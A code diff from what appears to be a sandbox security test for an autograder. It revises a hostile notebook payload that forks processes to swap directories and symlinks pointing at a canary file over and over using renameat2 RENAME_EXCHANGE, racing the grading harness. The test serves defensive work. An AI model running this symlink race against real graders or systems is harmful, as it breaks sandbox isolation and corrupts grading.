@@ -74,18 +74,26 @@ def _attacks(canary: Path, listener: str) -> dict[str, nbformat.NotebookNode]:
     )
     race = hostile(
         f"""
-        import ctypes, glob, os, threading
+        import ctypes, glob, os
         _libc = ctypes.CDLL(None, use_errno=True)
-        def _race(outputs):
-            real, link = os.path.join(outputs, "d"), os.path.join(outputs, "l")
-            os.makedirs(os.path.join(real, "inner"), exist_ok=True)
-            os.symlink({str(canary)!r}, link)
-            while True:  # RENAME_EXCHANGE: the real dir and the link trade places, over and over
-                _libc.renameat2(-100, real.encode(), -100, link.encode(), 2)
+        def _race(pairs):
+            while True:  # RENAME_EXCHANGE: each real dir and its link trade places, over and over
+                for real, link in pairs:
+                    _libc.renameat2(-100, real, -100, link, 2)
         for _outputs in glob.glob("/tmp/autograder-run-*/outputs"):
             if os.access(_outputs, os.W_OK):
-                threading.Thread(target=_race, args=(_outputs,), daemon=True).start()
-        """
+                _pairs = []
+                for _index in range(RACE_PAIRS):
+                    _real, _link = os.path.join(_outputs, f"d{{_index}}"), os.path.join(_outputs, f"l{{_index}}")
+                    os.makedirs(os.path.join(_real, "inner"))
+                    os.symlink({str(canary)!r}, _link)
+                    _pairs.append((_real.encode(), _link.encode()))
+                for _racer in range(2):  # processes, not threads: they race while the kernel runs the harness
+                    if os.fork() == 0:
+                        _race(_pairs[_racer::2])
+        import time
+        time.sleep(1)  # the racers are running when the grader turns to the output dir
+        """.replace("RACE_PAIRS", "32")
     )
     amplify = hostile(
         """
